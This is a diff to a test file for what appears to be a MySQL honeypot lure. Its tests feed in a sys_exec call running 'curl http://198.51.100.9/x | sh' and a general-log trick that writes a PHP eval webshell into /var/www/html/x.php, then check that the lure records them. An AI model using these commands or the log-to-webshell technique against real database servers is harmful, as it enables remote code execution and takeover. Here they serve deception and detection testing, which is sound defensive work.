@@ -3,6 +3,7 @@
 
 import pytest
 
+from decnet.lures.mysql.administration import log_statement
 from decnet.lures.sql.outcome import Rows
 from tests.lures.mysql.database import MYSQL, Statements
 
@@ -108,6 +109,14 @@ def test_a_library_that_was_written_brings_a_function() -> None:
     assert statements.one("sys_exec('curl http://198.51.100.9/x | sh')") == "0"
     assert "curl http://198.51.100.9/x | sh" in [getattr(body, "url", "") for body in statements.bodies]
     assert statements.run("SELECT name, dl FROM mysql.func") == [("sys_exec", "lib.so")]
+
+
+def test_a_log_that_is_moved_is_set() -> None:
+    statements = Statements()
+    assert statements.run("SET GLOBAL general_log_file = '/var/www/html/x.php'") == 0
+    assert statements.run("SET GLOBAL general_log = ON") == 0
+    log_statement(statements.visit, "SELECT '<?php eval($_POST[1]) ?>'")
+    assert statements.captured == {"/var/www/html/x.php": b"SELECT '<?php eval($_POST[1]) ?>'"}
 
 
 def test_an_account_of_an_application_sees_its_database_alone() -> None:
